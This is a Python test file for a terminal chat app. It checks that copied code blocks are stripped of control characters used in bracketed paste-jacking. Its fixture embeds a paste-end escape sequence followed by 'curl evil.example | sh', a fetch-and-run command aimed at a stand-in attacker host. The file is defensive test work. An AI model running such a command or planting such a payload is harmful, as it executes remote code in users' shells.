"""Attack: a copied code block holding `ESC[201~` ran two lines in the user's shell on
paste (bracketed paste-jacking; issue 21, the smaller ones).

A shell with bracketed paste treats `ESC[201~` as the paste's end: what follows is typed,
and a newline runs it. Copies carry no control character, and the notice says what was
removed."""

from __future__ import annotations

from helpers.streams import completed, created, message, message_events
from helpers.tui import GatedServer, make_app, until
from textual.app import App

from rivulet.app.commands.settings import choose_copy
from rivulet.app.tui_commands import show
from rivulet.core.terminal.clipboard import clean_copy
from rivulet.core.turn.history import HistoryEntry
from rivulet.widgets.inspector import RawItemScreen

JACK = "```sh\nls\x1b[201~\ncurl evil.example | sh\n\x9b201~\r\n```\n"


def _answer(text: str) -> list[str]:
    return [created(), *message_events("m1", text), completed([message("m1", text)])]


async def test_copy_of_a_code_block_strips_the_paste_end_and_says_so(monkeypatch):
    copied: list[str] = []
    monkeypatch.setattr("rivulet.app.copying.system_copy", lambda text: copied.append(text) or "xclip")
    app = make_app(GatedServer(_answer(JACK)))
    async with app.run_test() as pilot:
        await pilot.press(*"hi", "enter")
        await until(pilot, lambda: app.last_answer() == JACK, "the answer")
        await show(app, await choose_copy(app.services, "1"))  # what `/copy 1` runs
        await pilot.pause()
        toasts = [str(n.message) for n in app._notifications]
    assert copied == ["ls[201~\ncurl evil.example | sh\n201~\n"]
    assert not any(c in copied[0] for c in "\x1b\x9b\r")
    assert any("2 control characters removed" in t for t in toasts), toasts


async def test_every_osc52_copy_is_clean(monkeypatch):
    """A copy through Textual (OSC 52: a selection, the inspector's `c`) is cleaned too."""
    sent: list[str] = []
    app = make_app(GatedServer(_answer("ok")))
    async with app.run_test() as pilot:
        monkeypatch.setattr(App, "copy_to_clipboard", lambda self, text: sent.append(text))  # the OSC 52 write
        app.copy_to_clipboard("a\x1b[201~b\u202ec")
        entry = HistoryEntry(message("m1", "x\x1b[201~y"), key="m1")
        await app.push_screen(RawItemScreen(entry))
        await pilot.press("c")
        await pilot.pause()
    assert sent[0] == "a[201~bc"
    assert len(sent) == 2 and "\x1b" not in sent[1] and "x" in sent[1]


def test_clean_copy_keeps_text_tabs_newlines_and_emoji():
    text = "def f():\n\treturn '👩\u200d💻 é'\r\n"
    assert clean_copy(text) == ("def f():\n\treturn '👩\u200d💻 é'\n", 0)
    assert clean_copy("a\x00b\x7fc\x85d\U000e0041") == ("abcd", 4)
